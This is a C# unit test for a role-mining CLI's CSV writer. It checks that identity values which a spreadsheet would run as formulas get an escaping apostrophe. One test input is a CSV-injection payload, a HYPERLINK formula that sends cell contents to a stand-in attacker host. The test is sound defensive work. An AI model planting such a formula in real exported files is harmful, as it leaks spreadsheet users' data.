using RoleMining.Cli.Output;
using RoleMining.Cli.Tests.Infrastructure;

namespace RoleMining.Cli.Tests.Output;

public sealed class CsvRecordWriterTests
{
    [Fact]
    public async Task Values_a_spreadsheet_would_run_as_a_formula_are_escaped_and_the_others_are_left_alone()
    {
        // Identity attributes come from HR and directory sources; one that starts with = or @ must not become a formula
        // when the file is opened in a spreadsheet. The API's identity stream escapes them the same way.
        string[] values = ["=HYPERLINK(\"https://evil.example/?x=\"&A1,\"click\")", "@SUM(1+1)", "+1 555 0100", "-2+3", "\tx", "plain", "a=b", ""];
        var output = new StringWriter();
        await using (var writer = new CsvRecordWriter<string>(output, _ => [new RecordColumn<string>("value", value => value)]))
        {
            await writer.WritePageAsync(values, CancellationToken.None);
            await writer.CompleteAsync(CancellationToken.None);
        }

        var (_, rows) = Csv.Parse(output.ToString());
        Assert.Equal(
            ["'=HYPERLINK(\"https://evil.example/?x=\"&A1,\"click\")", "'@SUM(1+1)", "'+1 555 0100", "'-2+3", "'\tx", "plain", "a=b", ""],
            rows.Select(row => row["value"]));
    }
}
